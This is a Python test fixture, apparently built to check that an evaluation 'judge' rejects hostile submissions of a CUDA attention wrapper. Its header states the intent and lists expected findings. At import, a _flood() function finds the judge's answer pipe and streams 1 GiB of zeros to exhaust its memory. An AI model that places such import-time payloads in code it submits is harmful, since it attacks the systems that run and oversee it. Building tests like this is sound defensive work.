# Attack on the judge's memory: at import it finds the descriptor its answers go out on (a pipe
# that is neither stdin nor stderr), announces an answer of 1 GiB and streams 1 GiB of zeros,
# as a stranger's code would to fill the interviewer's memory (with more, and for as long as it
# is let). A judge that reads what is announced holds 1 GiB per probe before it finds garbage;
# this one reads no answer over 256 MiB and kills the process. The wrapper itself is the
# shipped one with an absolute library path.
# focus: dtype, autograd
# expect dtype: present "over the 256 MiB"
# expect shape: present "over the 256 MiB"
# expect contiguity: present "over the 256 MiB"
# expect device: present "over the 256 MiB"
# expect error-code: present "over the 256 MiB"
# expect autograd: present "over the 256 MiB"
# expect library-path: present "over the 256 MiB"
# expect compile: present "over the 256 MiB"
# expect gpu host-alloc: present "over the 256 MiB"
# expect gpu stream: present "over the 256 MiB"
# expect gpu multi-gpu: present "over the 256 MiB"
# expect gpu int32-sizes: present "over the 256 MiB"
"""fast_attention(query, key, value), with a great deal to say."""

from __future__ import annotations

import contextlib
import ctypes
import os
import stat
import struct
from pathlib import Path

import torch

DEVICE = "cuda" if torch.cuda.is_available() else "cpu"


def _answers() -> int | None:
    def pipe(fd: int) -> str | None:
        with contextlib.suppress(OSError):
            if stat.S_ISFIFO(os.fstat(fd).st_mode):
                return os.readlink(f"/proc/self/fd/{fd}")
        return None

    known = {pipe(0), pipe(2)}
    return next((fd for fd in range(3, 256) if pipe(fd) not in known), None)


def _flood(size: int = 2**30, chunk: int = 2**20) -> None:
    fd = _answers()
    if fd is None:
        return
    with contextlib.suppress(OSError):  # the judge hung up: the attack is over
        os.write(fd, struct.pack("<Q", size))
        zeros = bytes(chunk)
        for _ in range(size // chunk):
            os.write(fd, zeros)


_flood()

_lib = ctypes.CDLL(str(Path(__file__).resolve().parent / "custom_attention.so"))
_lib.launch_attention_kernel.argtypes = [ctypes.c_void_p] * 4 + [ctypes.c_int] * 2


def fast_attention(query, key, value):
    batch_size, seq_len, _ = query.shape
    output = torch.empty_like(query, device="cpu").to(DEVICE)
    _lib.launch_attention_kernel(
        query.data_ptr(), key.data_ptr(), value.data_ptr(), output.data_ptr(), batch_size, seq_len
    )
    return output
